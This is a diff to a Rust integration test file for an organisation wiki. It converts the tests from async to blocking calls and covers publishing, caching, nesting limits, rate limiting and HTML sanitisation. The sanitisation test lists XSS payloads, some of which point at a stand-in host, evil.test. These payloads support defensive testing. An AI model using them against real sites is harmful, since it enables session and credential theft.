@@ -6,11 +6,11 @@ use std::num::NonZeroU32;
 use frontdesk_server::database::Location;
 use frontdesk_server::identity::IdentitySettings;
 use frontdesk_server::server::Settings;
+use frontdesk_tests::blocking::{Answer, Caller, Organization, world};
 use frontdesk_tests::world::identity;
-use frontdesk_tests::{Answer, Organization, run, world};
 use serde_json::json;
 
-use super::{Admin, stage};
+use super::stage;
 
 /// A page of an organisation's wiki.
 struct Page {
@@ -20,7 +20,7 @@ struct Page {
 }
 
 impl Page {
-    async fn get(organization: &Organization, path: &str, accept: &str, known: &str) -> Page {
+    fn get(organization: &Organization, path: &str, accept: &str, known: &str) -> Page {
         let url = format!(
             "{}/learn/wiki{path}?organization={}",
             world().url(),
@@ -30,17 +30,16 @@ impl Page {
         let answer = request
             .header("if-none-match", known)
             .send()
-            .await
             .expect("an answer");
         Page {
             status: answer.status().as_u16(),
             headers: answer.headers().clone(),
-            text: answer.text().await.expect("a text"),
+            text: answer.text().expect("a text"),
         }
     }
 
-    async fn read(organization: &Organization, path: &str) -> Page {
-        Page::get(organization, path, "text/html", "").await
+    fn read(organization: &Organization, path: &str) -> Page {
+        Page::get(organization, path, "text/html", "")
     }
 
     fn header(&self, name: &str) -> &str {
@@ -49,137 +48,126 @@ impl Page {
     }
 }
 
-async fn publish(author: &mut Admin, title: &str, content: &str, parent: Option<&str>) -> Answer {
+fn publish(author: &mut Caller, title: &str, content: &str, parent: Option<&str>) -> Answer {
     let metadata = parent.map_or(json!({}), |slug| json!({ "parent_slug": slug }));
     let article = json!({
         "title": title, "content": content, "metadata": metadata, "status": "published",
     });
-    let made = author.call("create_wiki_article", article).await;
+    let made = author.call("create_wiki_article", article);
     made.output();
     made
 }
 
 #[test]
 fn published_articles_are_read_without_signing_in_and_others_are_not() {
-    run(async {
-        let (organization, mut author) = stage().await;
-        publish(&mut author, "House <rules>", "Be *kind*.", None).await;
-        publish(
-            &mut author,
-            "Keys",
-            "See [the rules](house-rules).",
-            Some("house-rules"),
-        )
-        .await;
-        let draft = json!({ "title": "Salaries", "content": "Much", "metadata": { "parent_slug": "keys" } });
-        author.output("create_wiki_article", draft).await;
+    let (organization, mut author) = stage();
+    publish(&mut author, "House <rules>", "Be *kind*.", None);
+    publish(
+        &mut author,
+        "Keys",
+        "See [the rules](house-rules).",
+        Some("house-rules"),
+    );
+    let draft =
+        json!({ "title": "Salaries", "content": "Much", "metadata": { "parent_slug": "keys" } });
+    author.output("create_wiki_article", draft);
 
-        let titles = Page::read(&organization, "").await;
-        assert_eq!(titles.status, 200);
-        let id = organization.id;
-        let nested = format!(
-            "<ul><li><a href=\"wiki/house-rules?organization={id}\">House &lt;rules&gt;</a>\n\
-             <ul><li><a href=\"wiki/keys?organization={id}\">Keys</a>\n</ul></ul>"
-        );
-        assert!(titles.text.contains(&nested), "{}", titles.text);
-        assert!(!titles.text.contains("Salaries"), "{}", titles.text);
+    let titles = Page::read(&organization, "");
+    assert_eq!(titles.status, 200);
+    let id = organization.id;
+    let nested = format!(
+        "<ul><li><a href=\"wiki/house-rules?organization={id}\">House &lt;rules&gt;</a>\n\
+         <ul><li><a href=\"wiki/keys?organization={id}\">Keys</a>\n</ul></ul>"
+    );
+    assert!(titles.text.contains(&nested), "{}", titles.text);
+    assert!(!titles.text.contains("Salaries"), "{}", titles.text);
 
-        let article = Page::read(&organization, "/keys").await;
-        let link = format!("See <a href=\"house-rules?organization={id}\"");
-        assert!(article.text.contains(&link), "{}", article.text);
-        assert!(
-            article.text.contains("aria-current=\"page\">Keys</a>"),
-            "{}",
-            article.text
-        );
-        assert_eq!(Page::read(&organization, "/salaries").await.status, 404);
-        assert_eq!(
-            Page::read(&Organization::create().await, "/keys")
-                .await
-                .status,
-            404
-        );
+    let article = Page::read(&organization, "/keys");
+    let link = format!("See <a href=\"house-rules?organization={id}\"");
+    assert!(article.text.contains(&link), "{}", article.text);
+    assert!(
+        article.text.contains("aria-current=\"page\">Keys</a>"),
+        "{}",
+        article.text
+    );
+    assert_eq!(Page::read(&organization, "/salaries").status, 404);
+    assert_eq!(Page::read(&Organization::create(), "/keys").status, 404);
 
-        let archive = json!({ "slug": "keys", "status": "archived" });
-        author.output("publish_wiki_article", archive).await;
-        assert_eq!(Page::read(&organization, "/keys").await.status, 404);
-    });
+    let archive = json!({ "slug": "keys", "status": "archived" });
+    author.output("publish_wiki_article", archive);
+    assert_eq!(Page::read(&organization, "/keys").status, 404);
 }
 
 #[test]
 fn the_source_is_had_as_markdown_and_a_page_that_is_known_is_not_sent_again() {
-    run(async {
-        let (organization, mut author) = stage().await;
-        let content = "# Keys\n\n<b>Two</b> of them.\n";
-        publish(&mut author, "Keys", content, None).await;
-        let source = Page::get(&organization, "/keys", "text/markdown", "").await;
-        assert_eq!(
-            (source.header("content-type"), &*source.text),
-            ("text/markdown; charset=utf-8", content)
-        );
-        let titles = Page::get(&organization, "", "text/markdown", "").await;
-        assert!(
-            titles.text.contains("- [Keys](wiki/keys"),
-            "{}",
-            titles.text
-        );
+    let (organization, mut author) = stage();
+    let content = "# Keys\n\n<b>Two</b> of them.\n";
+    publish(&mut author, "Keys", content, None);
+    let source = Page::get(&organization, "/keys", "text/markdown", "");
+    assert_eq!(
+        (source.header("content-type"), &*source.text),
+        ("text/markdown; charset=utf-8", content)
+    );
+    let titles = Page::get(&organization, "", "text/markdown", "");
+    assert!(
+        titles.text.contains("- [Keys](wiki/keys"),
+        "{}",
+        titles.text
+    );
 
-        let page = Page::read(&organization, "/keys").await;
-        assert_eq!(page.header("vary"), "accept");
-        assert!(page.header("cache-control").starts_with("public"));
-        let known = Page::get(&organization, "/keys", "text/html", page.header("etag")).await;
-        assert_eq!((known.status, &*known.text), (304, ""));
-        let change = json!({ "slug": "keys", "content": "Three." });
-        author.output("update_wiki_article", change).await;
-        let changed = Page::get(&organization, "/keys", "text/html", page.header("etag")).await;
-        assert_eq!(changed.status, 200);
-        assert!(changed.text.contains("<p>Three.</p>"), "{}", changed.text);
-    });
+    let page = Page::read(&organization, "/keys");
+    assert_eq!(page.header("vary"), "accept");
+    assert!(page.header("cache-control").starts_with("public"));
+    let known = Page::get(&organization, "/keys", "text/html", page.header("etag"));
+    assert_eq!((known.status, &*known.text), (304, ""));
+    let change = json!({ "slug": "keys", "content": "Three." });
+    author.output("update_wiki_article", change);
+    let changed = Page::get(&organization, "/keys", "text/html", page.header("etag"));
+    assert_eq!(changed.status, 200);
+    assert!(changed.text.contains("<p>Three.</p>"), "{}", changed.text);
 }
 
 #[test]
 fn the_tag_changes_with_title_text_navigation_and_form() {
-    run(async {
-        let (organization, mut author) = stage().await;
-        publish(&mut author, "Rules", "Be kind.", None).await;
-        publish(&mut author, "Keys", "Two.", None).await;
-        let mut tags = std::collections::BTreeSet::new();
-        let mut is_new = async |path: &str, accept: &str, because: &str| {
-            let page = Page::get(&organization, path, accept, "").await;
-            assert_eq!(page.status, 200, "{because}");
-            let tag = page.header("etag").to_owned();
-            let known = Page::get(&organization, path, accept, &tag).await;
-            assert_eq!((known.status, &*known.text), (304, ""), "{because}");
-            assert!(tags.insert(tag), "{because}");
-        };
-        is_new("/keys", "text/html", "an article").await;
-        is_new("", "text/html", "the titles").await;
-        is_new("/keys", "text/markdown", "its source").await;
-        for (change, because) in [
-            (json!({ "slug": "keys", "title": "All keys" }), "its title"),
-            (json!({ "slug": "keys", "content": "Three." }), "its text"),
-            (
-                json!({ "slug": "rules", "title": "House rules" }),
-                "another title",
-            ),
-            (
-                json!({ "slug": "rules", "new_slug": "house" }),
-                "another address",
-            ),
-            (
-                json!({ "slug": "keys", "metadata": { "parent_slug": "house" } }),
-                "its place",
-            ),
-        ] {
-            author.output("update_wiki_article", change).await;
-            is_new("/keys", "text/html", because).await;
-            if because != "its text" {
-                is_new("", "text/html", because).await;
-            }
+    let (organization, mut author) = stage();
+    publish(&mut author, "Rules", "Be kind.", None);
+    publish(&mut author, "Keys", "Two.", None);
+    let mut tags = std::collections::BTreeSet::new();
+    let mut is_new = |path: &str, accept: &str, because: &str| {
+        let page = Page::get(&organization, path, accept, "");
+        assert_eq!(page.status, 200, "{because}");
+        let tag = page.header("etag").to_owned();
+        let known = Page::get(&organization, path, accept, &tag);
+        assert_eq!((known.status, &*known.text), (304, ""), "{because}");
+        assert!(tags.insert(tag), "{because}");
+    };
+    is_new("/keys", "text/html", "an article");
+    is_new("", "text/html", "the titles");
+    is_new("/keys", "text/markdown", "its source");
+    for (change, because) in [
+        (json!({ "slug": "keys", "title": "All keys" }), "its title"),
+        (json!({ "slug": "keys", "content": "Three." }), "its text"),
+        (
+            json!({ "slug": "rules", "title": "House rules" }),
+            "another title",
+        ),
+        (
+            json!({ "slug": "rules", "new_slug": "house" }),
+            "another address",
+        ),
+        (
+            json!({ "slug": "keys", "metadata": { "parent_slug": "house" } }),
+            "its place",
+        ),
+    ] {
+        author.output("update_wiki_article", change);
+        is_new("/keys", "text/html", because);
+        if because != "its text" {
+            is_new("", "text/html", because);
         }
-        publish(&mut author, "Alarm", "1234", None).await;
-        is_new("/keys", "text/html", "another article").await;
-    });
+    }
+    publish(&mut author, "Alarm", "1234", None);
+    is_new("/keys", "text/html", "another article");
 }
 
 /// Texts that once took seconds and gigabytes to render.
@@ -198,137 +186,130 @@ fn too_deep() -> Vec<String> {
 
 #[test]
 fn a_text_that_nests_too_deeply_is_refused_and_one_that_is_stored_is_shown_as_written() {
-    run(async {
-        let (organization, mut author) = stage().await;
-        publish(&mut author, "Deep", "Two.", None).await;
-        for content in too_deep() {
-            let create = json!({ "title": "Deeper", "content": content, "status": "published" });
-            let created = author.call("create_wiki_article", create).await;
-            created.refuses("invalid_argument", "content");
-            let update = json!({ "slug": "deep", "content": content });
-            let updated = author.call("update_wiki_article", update).await;
-            updated.refuses("invalid_argument", "content");
-            let says = updated.tool_error()["message"].to_string();
-            assert!(says.contains("more than 32 levels"), "{says}");
+    let (organization, mut author) = stage();
+    publish(&mut author, "Deep", "Two.", None);
+    for content in too_deep() {
+        let create = json!({ "title": "Deeper", "content": content, "status": "published" });
+        let created = author.call("create_wiki_article", create);
+        created.refuses("invalid_argument", "content");
+        let update = json!({ "slug": "deep", "content": content });
+        let updated = author.call("update_wiki_article", update);
+        updated.refuses("invalid_argument", "content");
+        let says = updated.tool_error()["message"].to_string();
+        assert!(says.contains("more than 32 levels"), "{says}");
 
-            let sql = "update learn.wiki_articles set content = $2 where organization_id = $1";
-            let owner = world().owner().await;
-            let stored = owner.execute(sql, &[&organization.id.0, &content]).await;
-            stored.expect("stored");
-            drop(owner);
-            let page = Page::read(&organization, "/deep").await;
-            assert_eq!(page.status, 200);
-            assert!(page.text.contains("shown as it was written"));
-            assert!(page.text.contains("<title>Deep</title>"));
-            assert!(page.text.len() < 5 * content.len() + 10_000);
-            assert!(page.text.matches("<b").count() < 20);
-        }
-        let most = ">".repeat(32) + " a\n\n- b\n  - c\n    - d\n";
-        let kept = json!({ "slug": "deep", "content": most });
-        author.output("update_wiki_article", kept).await;
-        let page = Page::read(&organization, "/deep").await;
-        assert_eq!(page.text.matches("<blockquote>").count(), 32);
-    });
+        let sql = "update learn.wiki_articles set content = $2 where organization_id = $1";
+        let owner = world().owner();
+        let stored = owner.execute(sql, &[&organization.id.0, &content]);
+        stored.expect("stored");
+        drop(owner);
+        let page = Page::read(&organization, "/deep");
+        assert_eq!(page.status, 200);
+        assert!(page.text.contains("so its source is shown"));
+        assert!(page.text.contains("<title>Deep</title>"));
+        assert!(page.text.len() < 5 * content.len() + 10_000);
+        assert!(page.text.matches("<b").count() < 20);
+    }
+    let most = ">".repeat(32) + " a\n\n- b\n  - c\n    - d\n";
+    let kept = json!({ "slug": "deep", "content": most });
+    author.output("update_wiki_article", kept);
+    let page = Page::read(&organization, "/deep");
+    assert_eq!(page.text.matches("<blockquote>").count(), 32);
 }
 
 #[test]
 fn a_network_may_have_so_many_pages() {
-    run(async {
-        let (organization, mut author) = stage().await;
-        publish(&mut author, "Keys", "Two.", None).await;
-        let settings = Settings {
-            identity: IdentitySettings {
-                pages_per_minute: NonZeroU32::new(3),
-                proxies: 1,
-                ..identity()
-            },
-            ..Settings::local(Location::Memory)
-        };
-        let server = world().server_with(settings).await;
-        let read = async |from: &str, path: &str| {
-            let url = format!(
-                "{}/learn/wiki{path}?organization={}",
-                server.url(),
-                organization.id
-            );
-            let request = reqwest::Client::new().get(url);
-            let answer = request.header("x-forwarded-for", from).send().await;
-            answer.expect("an answer")
-        };
-        for path in ["", "/keys", "/nowhere"] {
-            assert_ne!(read("203.0.113.1", path).await.status().as_u16(), 429);
-        }
-        let refused = read("203.0.113.1", "/keys").await;
-        assert_eq!(refused.status().as_u16(), 429);
-        assert!(refused.headers().contains_key("retry-after"));
-        // Addresses that the client adds itself do not count.
-        let invented = read("198.51.100.7, 203.0.113.1", "/keys").await;
-        assert_eq!(invented.status().as_u16(), 429);
-        assert_eq!(read("203.0.113.2", "/keys").await.status().as_u16(), 200);
-    });
+    let (organization, mut author) = stage();
+    publish(&mut author, "Keys", "Two.", None);
+    let settings = Settings {
+        identity: IdentitySettings {
+            pages_per_minute: NonZeroU32::new(3),
+            proxies: 1,
+            ..identity()
+        },
+        ..Settings::local(Location::Memory)
+    };
+    let server = world().server_with(settings);
+    let read = |from: &str, path: &str| {
+        let url = format!(
+            "{}/learn/wiki{path}?organization={}",
+            server.url(),
+            organization.id
+        );
+        let request = reqwest::Client::new().get(url);
+        let answer = request.header("x-forwarded-for", from).send();
+        answer.expect("an answer")
+    };
+    for path in ["", "/keys", "/nowhere"] {
+        assert_ne!(read("203.0.113.1", path).status().as_u16(), 429);
+    }
+    let refused = read("203.0.113.1", "/keys");
+    assert_eq!(refused.status().as_u16(), 429);
+    assert!(refused.headers().contains_key("retry-after"));
+    // Addresses that the client adds itself do not count.
+    let invented = read("198.51.100.7, 203.0.113.1", "/keys");
+    assert_eq!(invented.status().as_u16(), 429);
+    assert_eq!(read("203.0.113.2", "/keys").status().as_u16(), 200);
 }
 
 #[test]
 fn nothing_of_an_article_runs_in_a_browser() {
-    run(async {
-        let (organization, mut author) = stage().await;
-        let attacks = [
-            "<script>alert(1)</script>",
-            "<img src=x onerror=alert(1)>",
-            "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
-            "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-            "<a href=\"javascript:alert(1)\">a</a>",
-            "[b](javascript:alert(1)) [c](JaVaScRiPt&colon;alert(1)) <javascript:alert(1)>",
-            "[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-            "[e](vbscript:msgbox) ![f](javascript:alert(1))",
-            "<form action=https://evil.test><input name=password><button formaction=javascript:alert(1)>g</button></form>",
-            "<style>@import url(https://evil.test)</style><link rel=stylesheet href=https://evil.test>",
-            "<base href=https://evil.test/><meta http-equiv=refresh content=\"0;url=https://evil.test\">",
-            "<p style=\"background:url(javascript:alert(1))\" onclick=alert(1)>h</p>",
-            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
-            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-            "[x]: javascript:alert(1)\n\n[i][x]",
-            "</main></html><script src=//evil.test></script>",
-        ];
-        publish(
-            &mut author,
-            "</title><script>alert(1)</script>",
-            &attacks.join("\n\n"),
-            None,
-        )
-        .await;
-        let page = Page::read(&organization, "/title-script-alert-1-script").await;
-        assert_eq!(page.status, 200);
-        let body = page.text.to_lowercase();
-        for tag in [
-            "<script", "<svg", "<iframe", "<form", "<input", "<button", "<link", "<base", "<math",
-        ] {
-            assert!(!body.contains(tag), "{tag}: {}", page.text);
+    let (organization, mut author) = stage();
+    let attacks = [
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
+        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+        "<a href=\"javascript:alert(1)\">a</a>",
+        "[b](javascript:alert(1)) [c](JaVaScRiPt&colon;alert(1)) <javascript:alert(1)>",
+        "[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+        "[e](vbscript:msgbox) ![f](javascript:alert(1))",
+        "<form action=https://evil.test><input name=password><button formaction=javascript:alert(1)>g</button></form>",
+        "<style>@import url(https://evil.test)</style><link rel=stylesheet href=https://evil.test>",
+        "<base href=https://evil.test/><meta http-equiv=refresh content=\"0;url=https://evil.test\">",
+        "<p style=\"background:url(javascript:alert(1))\" onclick=alert(1)>h</p>",
+        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
+        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+        "[x]: javascript:alert(1)\n\n[i][x]",
+        "</main></html><script src=//evil.test></script>",
+    ];
+    publish(
+        &mut author,
+        "</title><script>alert(1)</script>",
+        &attacks.join("\n\n"),
+        None,
+    );
+    let page = Page::read(&organization, "/title-script-alert-1-script");
+    assert_eq!(page.status, 200);
+    let body = page.text.to_lowercase();
+    for tag in [
+        "<script", "<svg", "<iframe", "<form", "<input", "<button", "<link", "<base", "<math",
+    ] {
+        assert!(!body.contains(tag), "{tag}: {}", page.text);
+    }
+    // One style and two metas belong to the page.
+    assert_eq!(
+        (
+            body.matches("<style").count(),
+            body.matches("<meta").count()
+        ),
+        (1, 2),
+        "{}",
+        page.text
+    );
+    let document = body.split("</style>").nth(1).expect("a body");
+    for tag in document.split('<').filter_map(|tag| tag.split('>').next()) {
+        for word in [" on", "javascript:", "vbscript:", "data:", "style="] {
+            assert!(!tag.contains(word), "<{tag}>: {}", page.text);
         }
-        // One style and two metas belong to the page.
-        assert_eq!(
-            (
-                body.matches("<style").count(),
-                body.matches("<meta").count()
-            ),
-            (1, 2),
-            "{}",
-            page.text
-        );
-        let document = body.split("</style>").nth(1).expect("a body");
-        for tag in document.split('<').filter_map(|tag| tag.split('>').next()) {
-            for word in [" on", "javascript:", "vbscript:", "data:", "style="] {
-                assert!(!tag.contains(word), "<{tag}>: {}", page.text);
-            }
-        }
-        let policy = page.header("content-security-policy");
-        assert!(
-            policy.starts_with("default-src 'none'; style-src 'sha256-"),
-            "{policy}"
-        );
-        assert!(
-            !policy.contains("script-src") && !policy.contains("unsafe"),
-            "{policy}"
-        );
-    });
+    }
+    let policy = page.header("content-security-policy");
+    assert!(
+        policy.starts_with("default-src 'none'; style-src 'sha256-"),
+        "{policy}"
+    );
+    assert!(
+        !policy.contains("script-src") && !policy.contains("unsafe"),
+        "{policy}"
+    );
 }
